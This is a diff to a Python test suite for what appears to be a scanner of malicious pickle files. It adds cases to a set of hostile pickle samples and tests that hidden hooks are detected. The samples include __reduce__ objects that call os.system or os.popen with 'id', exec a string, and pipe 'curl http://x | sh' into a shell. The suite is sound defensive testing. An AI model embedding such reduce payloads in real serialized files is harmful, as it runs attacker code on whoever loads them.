@@ -10,7 +10,7 @@ import fractions
 import functools
 import os
 import pickle
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -26,7 +26,7 @@ from mlsec.artifacts.pickle.templates import Template
 from mlsec.artifacts.window import Window
 from tests.artifacts import test_pickle_acts as acts
 from tests.artifacts.builders import pickles as make
-from tests.artifacts.shapes_of_objects import NEW_ONLY, SHAPES, Plain, Point, Reduced
+from tests.artifacts.shapes_of_objects import MIXED, NEW_ONLY, SHAPES, Items, Plain, Point, Reduced
 
 PROGRAM = "exec('x')"
 Said = frozenset[tuple[object, ...]]
@@ -35,11 +35,21 @@ Said = frozenset[tuple[object, ...]]
 class Lie:
     """Stored as a call of our choice, perhaps with a state."""
 
-    def __init__(self, made_by: object, *arguments: object, state: object = None) -> None:
+    def __init__(
+        self,
+        made_by: object,
+        *arguments: object,
+        state: object = None,
+        items: Mapping[object, object] | None = None,
+    ) -> None:
         self.parts = (made_by, arguments, state) if state else (made_by, arguments)
+        if items:
+            self.parts = (made_by, arguments, state, None, None)
+        self.items = items
 
     def __reduce__(self) -> tuple[object, ...]:
-        return self.parts
+        *parts, last = self.parts
+        return (*parts, iter(self.items.items())) if self.items else (*parts, last)
 
 
 class Posing(Lie):
@@ -60,6 +70,10 @@ HOSTILE = {
     "a command as a factory": Lie(collections.defaultdict, Lie(os.popen, "id")),
     "a hook in a state": Lie(Plain, state={"number": 1, "__class__": 1}),
     "a hook in slots": Lie(Plain, state=(None, {"left": 1, "__class__": 1})),
+    "a hook in a table of a state": Plain(number=1, inner={"__call__": Plain(number=2)}),
+    "a hook among tables": Plain(number=1, inner={"__call__": print}),
+    "a hook among items": Lie(Items, state=None, items={"__call__": Plain(number=1)}),
+    "a function for a method": Plain(number=1, items=print),
     "a command within": Plain(number=1, text=Lie(os.system, "id")),
     "a command in a tuple": Point(1, Lie(os.system, "id")),
     "a command given to a class": Lie(Reduced, 1, "curl http://x | sh"),
@@ -103,6 +117,59 @@ def test_what_is_said_of_many_objects_is_what_is_said_one_by_one(shape: str, pro
         return
     data = pickle.dumps([SHAPES[shape](number) for number in range(900)], protocol)
     assert said(data) == said_one_by_one(data)
+
+
+@pytest.mark.parametrize("protocol", [0, 2, 4, 5])
+@pytest.mark.parametrize("name", MIXED)
+def test_what_is_said_of_a_mixed_stream_is_what_is_said_one_by_one(
+    name: str, protocol: int
+) -> None:
+    data = pickle.dumps(MIXED[name](90), protocol)
+    assert said(data) == said_one_by_one(data)
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
+@given(
+    name=st.sampled_from(sorted(MIXED)), protocol=st.sampled_from((0, 2, 4)),
+    lie=st.sampled_from(sorted(HOSTILE)),
+    place=st.floats(0, 1),
+    within=st.sampled_from(("alone", "list", "dict", "tuple", "object", "deep")),
+)  # fmt: skip
+def test_a_hostile_object_in_a_mixed_stream_is_seen(
+    name: str, protocol: int, lie: str, place: float, within: str
+) -> None:
+    many, hostile = MIXED[name](70), HOSTILE[lie]
+    honest = said(pickle.dumps([*many, Plain(number=0), Point(1, 2), Reduced(1, "a")], protocol))
+    wrapped = {
+        "alone": hostile, "list": [*range(40), hostile, *range(40)], "dict": {"a": 1, "b": hostile},
+        "tuple": (1, hostile, 2), "object": collections.OrderedDict(a=[hostile]),
+        "deep": [{"a": (1, [{"b": [hostile]}])}],
+    }[within]  # fmt: skip
+    many.insert(int(place * len(many)), wrapped)
+    data = pickle.dumps(many, protocol)
+    found = said(data)
+    assert found == said_one_by_one(data)
+    assert found - honest
+
+
+def containers(value: object) -> Mapping[str, object]:
+    many = [value, *range(900)]
+    return {
+        "list": many, "late": [*range(200), *many], "tuple": tuple(many),
+        "set": {value, *range(10**6, 10**6 + 200)},
+        "texts": [value, *map(str, range(900))], "keys": dict.fromkeys(many),
+        "dict": {"a": value, **{f"k{n}": n for n in range(900)}},
+    }  # fmt: skip
+
+
+@pytest.mark.parametrize("protocol", [0, 2, 4, 5])
+@pytest.mark.parametrize("kind", containers(""))
+def test_what_long_containers_hold_is_judged_when_they_are_given_to_a_call(
+    kind: str, protocol: int
+) -> None:
+    data = pickle.dumps(Lie(Reduced, containers(PROGRAM)[kind]), protocol)
+    assert said(data) == said_one_by_one(data)
+    assert said(data) != said(pickle.dumps(Lie(Reduced, containers("word")[kind]), protocol))
 
 
 @pytest.mark.parametrize("shape", sorted(set(WITH_CALLS) - {"enumeration"}))
